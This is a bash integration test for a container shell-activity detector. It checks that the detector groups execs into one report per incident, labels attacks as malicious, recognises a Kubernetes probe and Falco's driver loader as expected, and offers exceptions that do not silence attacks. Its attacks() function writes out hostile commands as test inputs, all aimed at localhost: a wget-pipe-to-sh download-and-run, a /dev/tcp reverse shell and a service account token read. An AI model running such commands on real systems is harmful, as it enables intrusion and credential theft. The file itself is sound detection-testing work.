#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
# Reports on real podman containers and the real kernel (issue 17):
# - one report per incident: five execs into one container within the report
#   delay are one report, named after the container;
# - the right verdict: download-and-run and a reverse shell are malicious
#   indicators, an exec probe in its context is expected, Falco's driver-loader
#   check in its context is expected (and typed elsewhere it is suspicious);
# - no unsafe exception: every exception the reports offer is loaded with the
#   shipped rules, and the attack scenarios still alert while the exempted
#   command itself no longer does.
. "$(dirname "$0")/lib.sh"
[ -x /bin/bash-static ] || skip "bash-static missing (make deps)"
command -v gcc >/dev/null || skip "gcc missing"
gcc -static -O2 -Wall -Werror "$ROOT/tests/integration/nethelper.c" -o "$T/nethelper" ||
	die "nethelper build failed"
# falcoctl is a Go program, not a shell: a small non-shell program that starts the check
# (a copy of bash under another name is judged a shell by its content)
build_exec_helper "$T/falcoctl"

add_tools() {
	local r=$1
	mkdir -p "$r/usr/bin" "$r/usr/sbin" "$r/var/run/secrets/kubernetes.io/serviceaccount"
	cp /bin/bash-static "$r/bin/bash"
	cp "$T/nethelper" "$r/bin/nethelper"
	cp "$T/falcoctl" "$r/usr/bin/falcoctl"
	ln -sf /bin/busybox "$r/usr/sbin/lsmod"
	ln -sf /bin/busybox "$r/bin/wget"
	ln -sf /bin/busybox "$r/usr/bin/pg_isready"
	echo token >"$r/var/run/secrets/kubernetes.io/serviceaccount/token"
}
make_image add_tools
LOADER=localhost/falcosecurity/falco-driver-loader:0.40.0-ss$$
podman tag "$IMAGE" "$LOADER"
CLEANUPS+=("podman rmi -f $LOADER")
mkdir -p "$T/reports"

run_ct() { # NAME [podman flags]: a long-running container named NAME-<pid>
	local n=$1
	shift
	podman run -d "${PODMAN_FLAGS[@]}" --name "$n-$$" "$@" "$IMAGE" /bin/sleep 300 >/dev/null ||
		die "podman run $n failed"
}
run_ct web
run_ct attack
run_ct db
# every attack of the suite, as commands typed into a container
attacks() { # CONTAINER TAG PORT
	podman exec "$1" /bin/sh -c "wget -qO- http://127.0.0.1:9/i.sh 2>/dev/null | sh; true dl-$2"
	podman exec "$1" /bin/sh -c "sh -i >& /dev/tcp/127.0.0.1/9 0>&1; true rev-$2" 2>/dev/null
	podman exec "$1" /bin/sh -c "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; true tok-$2"
	# a real reverse shell: a TCP socket on the shell's stdio, a command typed into it
	podman exec -d "$1" /bin/nethelper talk listen "$3" /tmp/rev.out "/bin/true net-$2" exit >/dev/null
	podman exec "$1" /bin/nethelper connect "$3" /bin/sh -i >/dev/null 2>&1
	script -qec "podman exec -t $1 /bin/sh -c 'true tty-$2'" /dev/null >/dev/null </dev/null
}

# Sessions on, as by default: every exec here is injected, so a session; the reports weigh
# what each session ran (a probe's program is a step of the verified probe shell).
start_daemon --metrics-addr '' --report-dir "$T/reports" --report-delay 2 --hostname node-v
# five execs into web within two seconds: one incident
for i in 1 2 3 4 5; do podman exec "web-$$" /bin/sh -c "true web-$i"; done
attacks "attack-$$" first 4444
# an exec probe, as the kubelet runs it
podman exec "db-$$" /bin/sh -c "pg_isready -U postgres"
# Falco's driver loader in its real context: entrypoint falcoctl, namespace falco
podman run --rm "${PODMAN_FLAGS[@]}" --name "falco-driver-loader-$$" \
	--annotation io.kubernetes.pod.namespace=falco \
	--annotation io.kubernetes.pod.name=falco-x7k2p \
	--annotation io.kubernetes.container.name=falco-driver-loader \
	"$LOADER" /usr/bin/falcoctl spawn /bin/bash -c '/usr/sbin/lsmod | cut -d'"'"' '"'"' -f1 | grep -qx "falco"'
wait_alert '.output_fields."proc.cmdline" | contains("grep -qx")' 30 >/dev/null ||
	fail "the driver loader's check was not detected"
stop_daemon || fail "daemon exit status"

report_of() { # container name fragment -> its report files
	ls "$T/reports" | grep -- "$1" || true
}
n=$(report_of "_web-$$.md" | wc -l)
[ "$n" -eq 1 ] || fail "web: $n reports for one incident of five execs: $(ls "$T/reports")"
r=$T/reports/$(report_of "_web-$$" | head -1)
grep -q '5 distinct commands in 5 sessions\|and 4 more times' "$r" || fail "web: the five execs are not one incident"
grep -q 'no known pattern: review needed' "$r" || fail "web: verdict $(head -1 "$r")"

r=$T/reports/$(report_of "_attack-$$" | head -1)
[ -f "$r" ] || fail "attack: no report"
head -1 "$r" | grep -q 'malicious-indicator' || fail "attack: title $(head -1 "$r")"
grep -q '`download-and-run`' "$r" || fail "attack: download-and-run not named"
grep -q '`reverse-shell`' "$r" || fail "attack: reverse shell not named"
grep -q 'network stdio, peer `127.0.0.1:4444`' "$r" || fail "attack: the reverse shell's peer not named"
grep -q -F '| `true net-first` |' "$r" || fail "attack: the command typed into the reverse shell is not in the timeline"
grep -q '`service-account-token-read`' "$r" || fail "attack: token read not named"
grep -q 'No exception is offered' "$r" || fail "attack: an exception was offered"
grep -q 'podman events --filter event=exec' "$r" || fail "attack: not the exec trail"

r=$T/reports/$(report_of "_db-$$" | head -1)
head -1 "$r" | grep -q 'expected: Kubernetes exec health, readiness or startup probe' ||
	fail "probe: title $(head -1 "$r")"
r=$(grep -l 'grep -qx' "$T"/reports/*.md | head -1)
[ -n "$r" ] && head -1 "$r" | grep -q "expected: Falco's driver loader" ||
	fail "driver loader: $(head -1 "$r" 2>/dev/null)"
[ -n "${SS_KEEP_REPORTS:-}" ] && cp -r "$T/reports" "$SS_KEEP_REPORTS"
[ "$FAILS" -eq 0 ] && ok "one report per incident; verdicts: malicious, expected probe, expected loader"

# Every offered exception, loaded together with the shipped rules.
cnt=$(offered_exceptions "$T/reports" "$T/tuning.yaml")
[ "$cnt" -gt 0 ] || fail "no exception offered at all"
"$SS" --validate --rules "$ROOT/rules/shellsentry_evasion_rules.yaml" \
	--rules "$ROOT/rules/shellsentry_rules.yaml" --rules "$T/tuning.yaml" >/dev/null 2>"$T/v.err" ||
	fail "offered exceptions do not load: $(cat "$T/v.err")"

: >"$T/alerts.json"
start_daemon --metrics-addr '' --rules "$ROOT/rules/shellsentry_evasion_rules.yaml" \
	--rules "$ROOT/rules/shellsentry_rules.yaml" --rules "$T/tuning.yaml"
# the attacks, in the probe's own container and elsewhere
attacks "db-$$" again 4445
attacks "attack-$$" again 4446
podman exec "db-$$" /bin/sh -c "pg_isready -U postgres; true probe-plus"
podman exec "db-$$" /bin/sh -c "pg_isready -U postgres"
podman exec "db-$$" /bin/sh -c "true sentinel"
wait_alert '.output_fields."proc.cmdline" == "sh -c true sentinel"' 30 >/dev/null || fail "no sentinel alert"
stop_daemon || fail "daemon exit status (tuned)"
for c in "dl-again" "rev-again" "tok-again" "net-again" "tty-again" "probe-plus"; do
	m=$(jq -c --arg c "$c" 'select(.output_fields."proc.cmdline" | contains($c))' "$T/alerts.json" |
		jq -s "map(select(.output_fields.\"container.name\" == \"db-$$\")) | length")
	[ "$m" -ge 1 ] || fail "an offered exception silenced '$c' in the probe's container"
done
m=$(jq -c "select(.rule == \"Reverse or bind shell in container\" and .output_fields.\"container.name\" == \"db-$$\")" \
	"$T/alerts.json" | wc -l)
[ "$m" -ge 1 ] || fail "an offered exception silenced the reverse shell in the probe's container"
m=$(jq -c 'select(.output_fields."proc.cmdline" == "sh -c pg_isready -U postgres")' "$T/alerts.json" | wc -l)
[ "$m" -eq 0 ] || fail "the exempted probe still alerts ($m)"
[ "$FAILS" -eq 0 ] && ok "$cnt offered exceptions load; no attack of the suite is silenced; the probe is"
finish
